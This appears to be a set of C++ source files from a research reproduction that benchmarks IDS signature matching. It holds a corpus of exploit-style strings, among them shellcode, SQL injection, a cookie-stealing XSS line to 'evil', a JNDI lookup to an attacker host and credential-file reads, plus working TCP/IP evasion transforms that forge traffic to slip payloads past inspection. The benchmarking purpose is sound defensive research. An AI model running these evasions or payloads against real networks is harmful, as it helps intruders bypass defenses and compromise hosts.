/// Verify the transport checksum of a parsed TCP/UDP packet (v4 or v6
/// inner header, any encapsulation): result 0 means valid. Requires
/// pv.has_tcp || pv.has_udp.
std::uint16_t transport_checksum(const PacketView& pv);

/// The one's-complement sum of a transport pseudo-header alone (not folded,
/// not complemented) — the RFC 1624 delta between the v4 and v6 forms of
/// one segment is pseudo_sum_v6 - pseudo_sum_v4 applied to the stored
/// checksum, which is how the reframer translates packets without touching
/// deliberately-corrupted checksums' corruptness.
std::uint32_t pseudo_header_sum(Ipv4Addr src, Ipv4Addr dst,
                                std::uint8_t proto, std::uint32_t length);
std::uint32_t pseudo_header_sum_v6(ByteView src6, ByteView dst6,
                                   std::uint8_t proto, std::uint32_t length);

}  // namespace sdt::net
