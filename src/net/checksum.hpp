// RFC 1071 Internet checksum, plus the TCP/UDP pseudo-header variant.
#pragma once

#include <cstdint>

#include "net/addr.hpp"
#include "util/bytes.hpp"

namespace sdt::net {

/// One's-complement sum of the data, not yet folded or complemented.
/// Useful for incremental composition (pseudo-header + segment).
std::uint32_t checksum_partial(ByteView data, std::uint32_t sum = 0);

/// Fold a partial sum and complement it into a final checksum value.
std::uint16_t checksum_finish(std::uint32_t sum);

/// Checksum over a single buffer (IPv4 header checksum).
std::uint16_t checksum(ByteView data);

/// TCP/UDP checksum: pseudo-header(src, dst, proto, length) + segment bytes.
/// `segment` must contain the transport header with its checksum field
/// zeroed (when computing) or as received (when verifying — result 0 means
/// valid).
std::uint16_t transport_checksum(Ipv4Addr src, Ipv4Addr dst,
                                 std::uint8_t proto, ByteView segment);

}  // namespace sdt::net
