#include "evasion/flow_forge.hpp"

#include <algorithm>

#include "net/headers.hpp"
#include "util/error.hpp"

namespace sdt::evasion {

FlowForge::FlowForge(Endpoints ep, std::uint64_t start_ts_usec,
                     std::uint64_t gap_usec)
    : ep_(ep), ts_(start_ts_usec), gap_(gap_usec) {}

void FlowForge::emit(Bytes datagram) {
  pkts_.emplace_back(ts_, std::move(datagram));
  ts_ += gap_;
}

Bytes FlowForge::client_packet(const Seg& seg, std::uint8_t flags) const {
  net::Ipv4Spec ip;
  ip.src = ep_.client;
  ip.dst = ep_.server;
  ip.id = ip_id_;
  ip.ttl = seg.ttl;
  net::TcpSpec tcp;
  tcp.src_port = ep_.client_port;
  tcp.dst_port = ep_.server_port;
  tcp.seq = ep_.client_isn + 1 + static_cast<std::uint32_t>(seg.rel_off);
  tcp.ack = ep_.server_isn + 1;
  tcp.flags = flags;
  if (seg.urg) {
    tcp.flags = static_cast<std::uint8_t>(tcp.flags | net::kTcpUrg);
    tcp.urgent_pointer = seg.urgent_pointer;
  }
  Bytes pkt = net::build_tcp_packet(ip, tcp, seg.data);
  if (seg.corrupt_checksum) {
    // Flip the TCP checksum in place; the IPv4 header stays valid so the
    // packet still routes — only the receiving TCP discards it.
    const std::size_t csum_off = 20 + 16;
    pkt[csum_off] = static_cast<std::uint8_t>(~pkt[csum_off]);
  }
  return pkt;
}

void FlowForge::handshake() {
  {
    net::Ipv4Spec ip{.src = ep_.client, .dst = ep_.server, .id = ip_id_++};
    net::TcpSpec t{.src_port = ep_.client_port,
                   .dst_port = ep_.server_port,
                   .seq = ep_.client_isn,
                   .ack = 0,
                   .flags = net::kTcpSyn};
    emit(net::build_tcp_packet(ip, t, {}));
  }
  {
    net::Ipv4Spec ip{.src = ep_.server, .dst = ep_.client, .id = ip_id_++};
    net::TcpSpec t{.src_port = ep_.server_port,
                   .dst_port = ep_.client_port,
                   .seq = ep_.server_isn,
                   .ack = ep_.client_isn + 1,
                   .flags = static_cast<std::uint8_t>(net::kTcpSyn | net::kTcpAck)};
    emit(net::build_tcp_packet(ip, t, {}));
  }
  {
    net::Ipv4Spec ip{.src = ep_.client, .dst = ep_.server, .id = ip_id_++};
    net::TcpSpec t{.src_port = ep_.client_port,
                   .dst_port = ep_.server_port,
                   .seq = ep_.client_isn + 1,
                   .ack = ep_.server_isn + 1,
                   .flags = net::kTcpAck};
    emit(net::build_tcp_packet(ip, t, {}));
  }
}

void FlowForge::client_segment(const Seg& seg) {
  std::uint8_t flags = net::kTcpAck;
  if (seg.fin) flags = static_cast<std::uint8_t>(flags | net::kTcpFin);
  ++ip_id_;
  emit(client_packet(seg, flags));
  client_sent_ = std::max(client_sent_, seg.rel_off + seg.data.size() +
                                            (seg.fin ? 1u : 0u));
}

void FlowForge::client_segment_fragmented(const Seg& seg,
                                          std::size_t frag_payload,
                                          bool reverse_order) {
  std::uint8_t flags = net::kTcpAck;
  if (seg.fin) flags = static_cast<std::uint8_t>(flags | net::kTcpFin);
  ++ip_id_;
  const Bytes whole = client_packet(seg, flags);
  std::vector<Bytes> frags = net::fragment_ipv4(whole, frag_payload);
  if (reverse_order) std::reverse(frags.begin(), frags.end());
  for (Bytes& frag : frags) emit(std::move(frag));
  client_sent_ = std::max(client_sent_, seg.rel_off + seg.data.size() +
                                            (seg.fin ? 1u : 0u));
}

void FlowForge::raw_datagram(Bytes datagram) { emit(std::move(datagram)); }

void FlowForge::server_data(ByteView stream, std::size_t mss) {
  if (mss == 0) throw InvalidArgument("FlowForge: mss == 0");
  for (std::size_t off = 0; off < stream.size(); off += mss) {
    const std::size_t n = std::min(mss, stream.size() - off);
    net::Ipv4Spec ip{.src = ep_.server, .dst = ep_.client, .id = ip_id_++};
    net::TcpSpec t{.src_port = ep_.server_port,
                   .dst_port = ep_.client_port,
                   .seq = ep_.server_isn + 1 +
                          static_cast<std::uint32_t>(server_sent_ + off),
                   .ack = ep_.client_isn + 1 +
                          static_cast<std::uint32_t>(client_sent_),
                   .flags = net::kTcpAck};
    emit(net::build_tcp_packet(ip, t, stream.subspan(off, n)));
  }
  server_sent_ += stream.size();
}

void FlowForge::server_ack() {
  net::Ipv4Spec ip{.src = ep_.server, .dst = ep_.client, .id = ip_id_++};
  net::TcpSpec t{.src_port = ep_.server_port,
                 .dst_port = ep_.client_port,
                 .seq = ep_.server_isn + 1 +
                        static_cast<std::uint32_t>(server_sent_),
                 .ack = ep_.client_isn + 1 +
                        static_cast<std::uint32_t>(client_sent_),
                 .flags = net::kTcpAck};
  emit(net::build_tcp_packet(ip, t, {}));
}

void FlowForge::close() {
  {
    Seg fin;
    fin.rel_off = client_sent_;
    fin.fin = true;
    client_segment(fin);
  }
  {
    net::Ipv4Spec ip{.src = ep_.server, .dst = ep_.client, .id = ip_id_++};
    net::TcpSpec t{.src_port = ep_.server_port,
                   .dst_port = ep_.client_port,
                   .seq = ep_.server_isn + 1 +
                          static_cast<std::uint32_t>(server_sent_),
                   .ack = ep_.client_isn + 1 +
                          static_cast<std::uint32_t>(client_sent_),
                   .flags = static_cast<std::uint8_t>(net::kTcpFin | net::kTcpAck)};
    emit(net::build_tcp_packet(ip, t, {}));
  }
  {
    net::Ipv4Spec ip{.src = ep_.client, .dst = ep_.server, .id = ip_id_++};
    net::TcpSpec t{.src_port = ep_.client_port,
                   .dst_port = ep_.server_port,
                   .seq = ep_.client_isn + 1 +
                          static_cast<std::uint32_t>(client_sent_),
                   .ack = ep_.server_isn + 2 +
                          static_cast<std::uint32_t>(server_sent_),
                   .flags = net::kTcpAck};
    emit(net::build_tcp_packet(ip, t, {}));
  }
}

void FlowForge::client_rst() {
  Seg s;
  s.rel_off = client_sent_;
  ++ip_id_;
  emit(client_packet(s, static_cast<std::uint8_t>(net::kTcpRst | net::kTcpAck)));
}

std::vector<Seg> plan_plain(ByteView stream, std::size_t mss,
                            bool fin_on_last) {
  if (mss == 0) throw InvalidArgument("plan_plain: mss == 0");
  std::vector<Seg> plan;
  for (std::size_t off = 0; off < stream.size(); off += mss) {
    const std::size_t n = std::min(mss, stream.size() - off);
    Seg s;
    s.rel_off = off;
    s.data.assign(stream.begin() + static_cast<std::ptrdiff_t>(off),
                  stream.begin() + static_cast<std::ptrdiff_t>(off + n));
    s.fin = fin_on_last && off + n == stream.size();
    plan.push_back(std::move(s));
  }
  if (plan.empty() && fin_on_last) {
    Seg s;
    s.fin = true;
    plan.push_back(std::move(s));
  }
  return plan;
}

std::vector<Seg> plan_tiny(ByteView stream, std::size_t seg_size) {
  return plan_plain(stream, seg_size, true);
}

std::vector<Seg> plan_tiny_window(ByteView stream, std::size_t mss,
                                  std::size_t seg_size, std::size_t lo,
                                  std::size_t hi) {
  if (lo > hi || hi > stream.size()) {
    throw InvalidArgument("plan_tiny_window: bad window");
  }
  std::vector<Seg> plan;
  auto append = [&](std::vector<Seg> part, std::size_t base) {
    for (Seg& s : part) {
      s.rel_off += base;
      plan.push_back(std::move(s));
    }
  };
  append(plan_plain(stream.subspan(0, lo), mss, false), 0);
  append(plan_plain(stream.subspan(lo, hi - lo), seg_size, false), lo);
  append(plan_plain(stream.subspan(hi), mss, true), hi);
  if (hi == stream.size() && !plan.empty()) plan.back().fin = true;
  return plan;
}

}  // namespace sdt::evasion
