#include "evasion/corpus.hpp"

#include <string_view>

#include "util/bytes.hpp"

namespace sdt::evasion {

namespace {

using namespace std::string_view_literals;

struct Entry {
  const char* name;
  std::string_view text;  // exact-match byte string (ASCII)
};

// Exploit-style exact strings in the spirit of classic IDS rule content
// fields. These are detection *test* strings, not functional payloads.
constexpr Entry kCorpus[] = {
    {"http-cmd-exe", "/winnt/system32/cmd.exe?/c+dir+c:\\"sv},
    {"http-unicode-traversal", "/scripts/..%c1%1c../..%c0%af../winnt/system32/"sv},
    {"http-double-decode", "/msadc/..%255c..%255c..%255c..%255cwinnt/system32/"sv},
    {"http-iis-ida", "/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN"sv},
    {"http-php-passthru", "<?php passthru($_GET['cmd']); echo shell_exec("sv},
    {"http-etc-passwd", "GET /../../../../../../../../etc/passwd HTTP/1.0"sv},
    {"http-proc-self", "/../../../../proc/self/environ HTTP/1.1\r\nUser-Agent:"sv},
    {"http-awstats-rce", "/awstats.pl?configdir=|echo;echo+YYY;uname+-a;echo"sv},
    {"http-shellshock", "() { :;}; /bin/bash -c \"/usr/bin/id; /bin/uname -a\""sv},
    {"http-sql-union", "UNION SELECT username,password,3,4,5 FROM mysql.user--"sv},
    {"http-sql-or", "' OR '1'='1' UNION ALL SELECT NULL,NULL,NULL,version()--"sv},
    {"http-sql-xp", "';exec master..xp_cmdshell 'net user hax0r p4ss /add'--"sv},
    {"http-xss-script", "<script>document.location='http://evil/c?'+document.cookie"sv},
    {"http-nimda-root", "GET /scripts/root.exe?/c+tftp%20-i%20GET%20Admin.dll"sv},
    {"http-formmail", "/cgi-bin/formmail.pl?recipient=spam@victim&subject="sv},
    {"ftp-site-exec", "SITE EXEC %p%p%p%p%p%p%p%p|%08x|%08x|%08x|%08x|"sv},
    {"ftp-mkd-overflow", "MKD AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"sv},
    {"smtp-wiz", "WIZ\r\nDEBUG\r\nMAIL FROM:<|/bin/sed '1,/^$/d'|/bin/sh>"sv},
    {"smtp-expn-root", "EXPN root\r\nVRFY bin\r\nMAIL FROM: |testing/bin/echo"sv},
    {"dns-version-bind", "\x07version\x04" "bind\x00\x00\x10\x00\x03" "additional"sv},
    {"smb-trans2-pipe", "\\PIPE\\LANMAN\x00WrLehDO\x00" "B16BBDz\x00\x01\x00\xe0\xff"sv},
    {"shellcode-x86-nop", "\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x31\xc0\x50\x68\x2f\x2f\x73\x68"sv},
    {"shellcode-setuid", "\x31\xdb\x89\xd8\xb0\x17\xcd\x80\x31\xc0\x50\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69"sv},
    {"shellcode-bindport", "\x6a\x66\x58\x99\x52\x42\x52\x42\x52\x89\xe1\xcd\x80\x93\x59\xb0\x3f\xcd\x80"sv},
    {"backdoor-subseven", "connected. time/date: ver: Sub7Server v2.1.5 pwd:"sv},
    {"backdoor-netbus", "NetBus 1.70 \r\nPassword;0;you_are_owned_now_hahaha"sv},
    {"worm-codered", "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858"sv},
    {"worm-slammer", "\x04\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\xdc\xc9\xb0\x42\xeb\x0e\x01\x01\x01\x01\x01\x01\x01\x70\xae\x42"sv},
    {"irc-botnet-join", "JOIN #owned-bots :!scan.start 445 192.168. /dcc.send"sv},
    {"pop3-user-overflow", "USER AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA@overflow"sv},
    {"imap-login-long", "a001 LOGIN {4096+}BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"sv},
    {"snmp-default-private", "\x30\x26\x02\x01\x00\x04\x07private\xa0\x18\x02\x01\x01" "community"sv},
    {"telnet-env-ld", "NEW-ENVIRON IS LD_PRELOAD=/tmp/.hax/libroot.so USER root"sv},
    {"rpc-portmap-dump", "\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa0\x00\x01\x97\x7c\x00\x00\x00\x04" "dump"sv},
    {"ssl-heartbleed-ish", "\x18\x03\x02\x00\x03\x01\x40\x00" "heartbeat-overread-marker"sv},
    {"exe-mz-drop", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" "payload.exe"sv},
    {"js-unescape-eval", "eval(unescape('%75%6e%70%61%63%6b%65%64%2e%70%61%79'))"sv},
    {"powershell-enc", "powershell.exe -NoP -NonI -W Hidden -Enc JABjAGwAaQBlAG4AdA"sv},
    {"log4shell-ish", "${jndi:ldap://attacker.example.com:1389/Basic/Command/Base64/}"sv},
    {"struts-ognl", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"sv},
    {"php-eval-base64", "eval(base64_decode($_POST['x1'])); @assert($_REQUEST['cmd']);"sv},
    {"cgi-phf", "GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0"sv},
    {"ssh-banner-scan", "SSH-1.5-OpenSSH_-scan\r\nroot:x:0:0:root:/root:/bin/bash"sv},
    {"tftp-get-shadow", "\x00\x01/etc/shadow\x00octet\x00" "blksize\x00" "65464\x00"sv},
    {"rdp-ms12-020", "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x00\x00\x00\x00" "cookie=ms12020"sv},
    {"upnp-chunked-overflow", "POST /upnp/control HTTP/1.1\r\nTransfer-Encoding: chunked\r\nSOAPAction: #Overflow"sv},
    {"heap-spray-slide", "\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c\x0c"sv},
    {"mirai-botnet-cred", "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI-SCAN"sv},
};

}  // namespace

core::SignatureSet default_corpus(std::size_t min_len) {
  core::SignatureSet set;
  for (const Entry& e : kCorpus) {
    if (e.text.size() >= min_len) {
      set.add(e.name, view_of(e.text));
    }
  }
  return set;
}

core::SignatureSet synthetic_corpus(std::size_t n, std::size_t len, Rng& rng) {
  core::SignatureSet set;
  for (std::size_t i = 0; i < n; ++i) {
    set.add("synthetic-" + std::to_string(i), ByteView(rng.random_bytes(len)));
  }
  return set;
}

}  // namespace sdt::evasion
