#include "evasion/transforms.hpp"

#include <algorithm>

#include "util/error.hpp"

namespace sdt::evasion {

const char* to_string(EvasionKind k) {
  switch (k) {
    case EvasionKind::none:
      return "none";
    case EvasionKind::tiny_segments:
      return "tiny_segments";
    case EvasionKind::tiny_window:
      return "tiny_window";
    case EvasionKind::out_of_order:
      return "out_of_order";
    case EvasionKind::overlap_rewrite:
      return "overlap_rewrite";
    case EvasionKind::overlap_decoy:
      return "overlap_decoy";
    case EvasionKind::modified_retransmit:
      return "modified_retransmit";
    case EvasionKind::ip_tiny_fragments:
      return "ip_tiny_fragments";
    case EvasionKind::ip_frag_out_of_order:
      return "ip_frag_out_of_order";
    case EvasionKind::post_fin_data:
      return "post_fin_data";
    case EvasionKind::combo_tiny_ooo:
      return "combo_tiny_ooo";
    case EvasionKind::bad_checksum_decoy:
      return "bad_checksum_decoy";
    case EvasionKind::ttl_decoy:
      return "ttl_decoy";
    case EvasionKind::urg_desync:
      return "urg_desync";
  }
  return "unknown";
}

namespace {

struct Window {
  std::size_t lo;
  std::size_t hi;
};

/// The signature window, defaulting to the whole stream when unset.
Window window_of(const EvasionParams& p, std::size_t stream_len) {
  if (p.sig_hi == 0 || p.sig_hi > stream_len || p.sig_lo >= p.sig_hi) {
    return {0, stream_len};
  }
  return {p.sig_lo, p.sig_hi};
}

}  // namespace

Bytes garbled_window(ByteView stream, std::size_t lo, std::size_t hi) {
  Bytes g(stream.begin(), stream.end());
  for (std::size_t i = lo; i < hi; ++i) {
    g[i] = static_cast<std::uint8_t>(~g[i]);
  }
  return g;
}

void shuffle_plan(std::vector<Seg>& plan, Rng& rng) {
  if (plan.size() < 2) return;
  const bool fin_last = plan.back().fin;
  const std::size_t n = fin_last ? plan.size() - 1 : plan.size();
  for (std::size_t i = n; i > 1; --i) {
    const auto j = static_cast<std::size_t>(rng.below(i));
    std::swap(plan[i - 1], plan[j]);
  }
}

std::vector<Seg> cover_window(ByteView content, std::size_t lo, std::size_t hi,
                              std::size_t mss) {
  std::vector<Seg> out;
  for (std::size_t off = lo; off < hi; off += mss) {
    const std::size_t n = std::min(mss, hi - off);
    Seg s;
    s.rel_off = off;
    s.data.assign(content.begin() + static_cast<std::ptrdiff_t>(off),
                  content.begin() + static_cast<std::ptrdiff_t>(off + n));
    out.push_back(std::move(s));
  }
  return out;
}

std::vector<net::Packet> forge_evasion(EvasionKind kind, Endpoints ep,
                                       ByteView stream,
                                       const EvasionParams& params, Rng& rng,
                                       std::uint64_t start_ts_usec) {
  FlowForge f(ep, start_ts_usec);
  f.handshake();
  const Window w = window_of(params, stream.size());

  switch (kind) {
    case EvasionKind::none: {
      f.client_segments(plan_plain(stream, params.mss, false));
      break;
    }
    case EvasionKind::tiny_segments: {
      f.client_segments(plan_tiny(stream, params.tiny_seg_size));
      return f.take();  // plan carried FIN
    }
    case EvasionKind::tiny_window: {
      f.client_segments(plan_tiny_window(stream, params.mss,
                                         params.tiny_seg_size, w.lo, w.hi));
      return f.take();
    }
    case EvasionKind::out_of_order: {
      std::vector<Seg> plan = plan_plain(stream, params.mss, false);
      shuffle_plan(plan, rng);
      f.client_segments(plan);
      break;
    }
    case EvasionKind::overlap_rewrite:
    case EvasionKind::overlap_decoy:
    case EvasionKind::modified_retransmit: {
      // The working form of the Ptacek-Newsham overlap attacks operates on
      // the receiver's *out-of-order buffer*: a rewrite of bytes the stack
      // has already delivered to the application changes nothing. So the
      // attacker (1) delivers the stream up to a hole just before the
      // signature window, (2) sends the window out-of-order — garbage and
      // real bytes overlapping, in policy-dependent order — (3) sends the
      // rest, and (4) finally plugs the hole, at which point the stack
      // resolves the overlaps and delivers the signature.
      const std::size_t hole = w.lo > 0 ? w.lo - 1 : 0;
      const Bytes decoy = garbled_window(stream, w.lo, w.hi);
      // Honest prefix up to the hole.
      f.client_segments(plan_plain(stream.subspan(0, hole), params.mss, false));
      const ByteView first_view =
          kind == EvasionKind::overlap_decoy ? ByteView(stream) : ByteView(decoy);
      const ByteView second_view =
          kind == EvasionKind::overlap_decoy ? ByteView(decoy) : ByteView(stream);
      // Both versions of the window land in the OOO buffer. For
      // modified_retransmit the second copy re-sends whole segments; for
      // the overlap variants it re-covers the window directly — on the
      // wire the difference is segment alignment.
      Window cover = w;
      if (kind == EvasionKind::modified_retransmit) {
        cover.lo = (w.lo / params.mss) * params.mss;
        cover.lo = std::max(cover.lo, hole + 1);
      }
      for (Seg& s : cover_window(first_view, cover.lo, cover.hi, params.mss)) {
        f.client_segment(s);
      }
      // Remainder of the stream after the window (still leaving the hole).
      f.client_segments([&] {
        std::vector<Seg> tail = plan_plain(stream.subspan(w.hi), params.mss, false);
        for (Seg& s : tail) s.rel_off += w.hi;
        return tail;
      }());
      for (Seg& s : cover_window(second_view, cover.lo, cover.hi, params.mss)) {
        f.client_segment(s);
      }
      // Plug the one-byte hole: the receiver now delivers everything.
      if (w.lo > 0) {
        Seg plug;
        plug.rel_off = hole;
        plug.data.assign(stream.begin() + static_cast<std::ptrdiff_t>(hole),
                         stream.begin() + static_cast<std::ptrdiff_t>(hole + 1));
        f.client_segment(plug);
      }
      break;
    }
    case EvasionKind::ip_tiny_fragments: {
      for (const Seg& s : plan_plain(stream, params.mss, false)) {
        f.client_segment_fragmented(s, params.frag_payload);
      }
      break;
    }
    case EvasionKind::ip_frag_out_of_order: {
      for (const Seg& s : plan_plain(stream, params.mss, false)) {
        f.client_segment_fragmented(s, params.frag_payload, /*reverse=*/true);
      }
      break;
    }
    case EvasionKind::post_fin_data: {
      // Deliver a prefix, declare FIN at the true end of stream (leaving a
      // hole), then fill the hole. The receiver delivers everything; an IPS
      // that finalizes the flow at FIN never sees the hole being filled.
      const std::size_t cut = w.lo + (w.hi - w.lo) / 2;
      f.client_segments(plan_plain(stream.subspan(0, cut), params.mss, false));
      Seg fin;
      fin.rel_off = stream.size();
      fin.fin = true;
      f.client_segment(fin);
      std::vector<Seg> tail = plan_plain(stream.subspan(cut), params.mss, false);
      for (Seg& s : tail) s.rel_off += cut;
      f.client_segments(tail);
      return f.take();  // FIN already sent
    }
    case EvasionKind::combo_tiny_ooo: {
      std::vector<Seg> plan = plan_tiny(stream, params.tiny_seg_size);
      shuffle_plan(plan, rng);
      f.client_segments(plan);
      return f.take();
    }
    case EvasionKind::bad_checksum_decoy:
    case EvasionKind::ttl_decoy: {
      // Insertion attack: before each real segment of the signature window,
      // ship a garbage decoy for the same range that the IPS may accept but
      // the victim never will — corrupted TCP checksum, or a TTL that
      // expires en route. An IPS trusting first-arrival data is blinded.
      const Bytes decoy_content = garbled_window(stream, w.lo, w.hi);
      const std::vector<Seg> plan = plan_plain(stream, params.mss, false);
      for (const Seg& s : plan) {
        if (s.rel_off + s.data.size() > w.lo && s.rel_off < w.hi) {
          Seg d;
          d.rel_off = s.rel_off;
          d.data.assign(
              decoy_content.begin() + static_cast<std::ptrdiff_t>(s.rel_off),
              decoy_content.begin() +
                  static_cast<std::ptrdiff_t>(s.rel_off + s.data.size()));
          if (kind == EvasionKind::bad_checksum_decoy) {
            d.corrupt_checksum = true;
          } else {
            d.ttl = params.decoy_ttl;
          }
          f.client_segment(d);
        }
        f.client_segment(s);
      }
      break;
    }
    case EvasionKind::urg_desync: {
      // Insert one byte in the middle of the signature and mark it urgent:
      // a stack delivering urgent data out of band hands the application
      // the unbroken signature, while an in-band interpretation sees it
      // split by the extra byte.
      const std::size_t insert_at = (w.lo + w.hi) / 2;
      f.client_segments(
          plan_plain(stream.subspan(0, w.lo), params.mss, false));
      Seg s;
      s.rel_off = w.lo;
      s.data.assign(stream.begin() + static_cast<std::ptrdiff_t>(w.lo),
                    stream.begin() + static_cast<std::ptrdiff_t>(insert_at));
      s.data.push_back(0xAA);  // the urgent byte
      s.urg = true;
      // RFC 793 semantics as commonly implemented: the pointer indexes the
      // byte following the urgent data, relative to the segment sequence.
      s.urgent_pointer = static_cast<std::uint16_t>(s.data.size());
      f.client_segment(s);
      std::vector<Seg> tail =
          plan_plain(stream.subspan(insert_at), params.mss, false);
      // Everything after the urgent byte shifts one sequence number up.
      for (Seg& t : tail) t.rel_off += insert_at + 1;
      f.client_segments(tail);
      Seg fin;
      fin.rel_off = stream.size() + 1;
      fin.fin = true;
      f.client_segment(fin);
      return f.take();
    }
  }

  f.close();
  return f.take();
}

Bytes delivered_stream(EvasionKind kind, ByteView stream) {
  (void)kind;  // every catalog transform delivers the stream verbatim on
               // its target stack class (see per-case comments above)
  return Bytes(stream.begin(), stream.end());
}

}  // namespace sdt::evasion
