// Trace persistence helpers: write generated packet sequences to real pcap
// files (consumable by tcpdump/wireshark) and read them back.
#pragma once

#include <string>
#include <vector>

#include "net/packet.hpp"
#include "pcap/pcap.hpp"

namespace sdt::evasion {

/// Write packets to a pcap file. The link type defaults to raw IP
/// datagrams; pass LinkType::ethernet for framed (e.g. VLAN-tagged) traces.
inline void write_trace(const std::string& path,
                        const std::vector<net::Packet>& pkts,
                        net::LinkType lt = net::LinkType::raw_ipv4) {
  pcap::Writer w(path, lt);
  for (const net::Packet& p : pkts) w.write(p);
}

/// Serialize packets to an in-memory pcap capture.
inline Bytes trace_bytes(const std::vector<net::Packet>& pkts,
                         net::LinkType lt = net::LinkType::raw_ipv4) {
  pcap::Writer w(lt);
  for (const net::Packet& p : pkts) w.write(p);
  return w.take();
}

}  // namespace sdt::evasion
