// Trace persistence helpers: write generated packet sequences to real pcap
// files (consumable by tcpdump/wireshark) and read them back.
#pragma once

#include <string>
#include <vector>

#include "net/packet.hpp"
#include "pcap/pcap.hpp"

namespace sdt::evasion {

/// Write packets (raw IPv4 datagrams) to a pcap file.
inline void write_trace(const std::string& path,
                        const std::vector<net::Packet>& pkts) {
  pcap::Writer w(path, net::LinkType::raw_ipv4);
  for (const net::Packet& p : pkts) w.write(p);
}

/// Serialize packets to an in-memory pcap capture.
inline Bytes trace_bytes(const std::vector<net::Packet>& pkts) {
  pcap::Writer w(net::LinkType::raw_ipv4);
  for (const net::Packet& p : pkts) w.write(p);
  return w.take();
}

}  // namespace sdt::evasion
