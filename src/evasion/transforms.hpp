// The FragRoute-class evasion catalog (Ptacek & Newsham attacks).
//
// Every transform takes an application byte stream that contains a
// signature and emits a forged packet conversation that delivers exactly
// that stream to a typical receiving TCP/IP stack while making naive
// per-packet signature matching fail. E1 runs each of these against the
// three detectors (naive per-packet matcher, conventional IPS,
// Split-Detect).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "evasion/flow_forge.hpp"
#include "util/rng.hpp"

namespace sdt::evasion {

enum class EvasionKind : std::uint8_t {
  none,                 // plain MSS-sized in-order delivery (control)
  tiny_segments,        // whole stream in small segments
  tiny_window,          // only the signature region in small segments
  out_of_order,         // full-size segments delivered shuffled
  overlap_rewrite,      // garbage first, overlapping rewrite with real bytes
  overlap_decoy,        // real bytes first, overlapping garbage on top
  modified_retransmit,  // retransmission carries different content
  ip_tiny_fragments,    // every segment shipped as 8..16-byte IP fragments
  ip_frag_out_of_order, // IP fragments delivered in reverse order
  post_fin_data,        // signature tail delivered after the FIN
  combo_tiny_ooo,       // tiny segments, shuffled
  bad_checksum_decoy,   // garbage decoys with corrupted TCP checksums
  ttl_decoy,            // garbage decoys that expire before the victim
  urg_desync,           // an inserted byte consumed as urgent/out-of-band
};

inline constexpr EvasionKind kAllEvasions[] = {
    EvasionKind::none,
    EvasionKind::tiny_segments,
    EvasionKind::tiny_window,
    EvasionKind::out_of_order,
    EvasionKind::overlap_rewrite,
    EvasionKind::overlap_decoy,
    EvasionKind::modified_retransmit,
    EvasionKind::ip_tiny_fragments,
    EvasionKind::ip_frag_out_of_order,
    EvasionKind::post_fin_data,
    EvasionKind::combo_tiny_ooo,
    EvasionKind::bad_checksum_decoy,
    EvasionKind::ttl_decoy,
    EvasionKind::urg_desync,
};

const char* to_string(EvasionKind k);

struct EvasionParams {
  std::size_t mss = 1460;
  std::size_t tiny_seg_size = 4;
  std::size_t frag_payload = 16;
  /// Where the signature starts/ends in the stream (required by the
  /// targeted transforms; harmless for the others).
  std::size_t sig_lo = 0;
  std::size_t sig_hi = 0;
  /// TTL of ttl_decoy segments; must be below the victim's hop distance.
  std::uint8_t decoy_ttl = 1;
};

// ---------------------------------------------------------------------------
// Schedule hooks: the plan combinators behind the catalog, exported so
// arbitrary attack schedules (sdt::fuzz) can compose them directly.
// ---------------------------------------------------------------------------

/// Shuffle a plan's delivery order in place; segments keep their offsets.
/// The FIN segment (if any) stays last so the conversation stays
/// deliverable.
void shuffle_plan(std::vector<Seg>& plan, Rng& rng);

/// Segments (at mss granularity) covering [lo, hi) of `content`.
std::vector<Seg> cover_window(ByteView content, std::size_t lo, std::size_t hi,
                              std::size_t mss);

/// Copy of `stream` with [lo, hi) overwritten by deterministic garbage that
/// differs from the original in every byte (conflicting-overlap content).
Bytes garbled_window(ByteView stream, std::size_t lo, std::size_t hi);

/// Forge a full conversation (handshake + transformed data + close) that
/// delivers `stream` client->server under evasion `kind`.
std::vector<net::Packet> forge_evasion(EvasionKind kind, Endpoints ep,
                                       ByteView stream,
                                       const EvasionParams& params, Rng& rng,
                                       std::uint64_t start_ts_usec);

/// The stream a receiving stack reconstructs from this transform, given the
/// transform's semantics. For every transform in the catalog this equals
/// the input stream on at least one mainstream stack — i.e. the attack
/// genuinely delivers its payload. Used by tests as ground truth.
Bytes delivered_stream(EvasionKind kind, ByteView stream);

}  // namespace sdt::evasion
