// Bundled signature corpus — the reproduction's substitute for a Snort-like
// rule base (exact-string rules only, per the paper's scope).
#pragma once

#include <cstddef>

#include "core/signature.hpp"
#include "util/rng.hpp"

namespace sdt::evasion {

/// The default corpus: realistic exploit-style exact strings, lengths
/// ~16-120 bytes. `min_len` filters out signatures shorter than that
/// (needed when sweeping piece length p: splitting requires length >= 2p).
core::SignatureSet default_corpus(std::size_t min_len = 0);

/// `n` random binary signatures of exactly `len` bytes (memory-scaling
/// sweeps where only count and length matter).
core::SignatureSet synthetic_corpus(std::size_t n, std::size_t len, Rng& rng);

}  // namespace sdt::evasion
