#include "evasion/traffic_gen.hpp"

#include <algorithm>

#include "flow/flow_key.hpp"
#include "net/headers.hpp"

namespace sdt::evasion {

namespace {

const char* const kWords[] = {
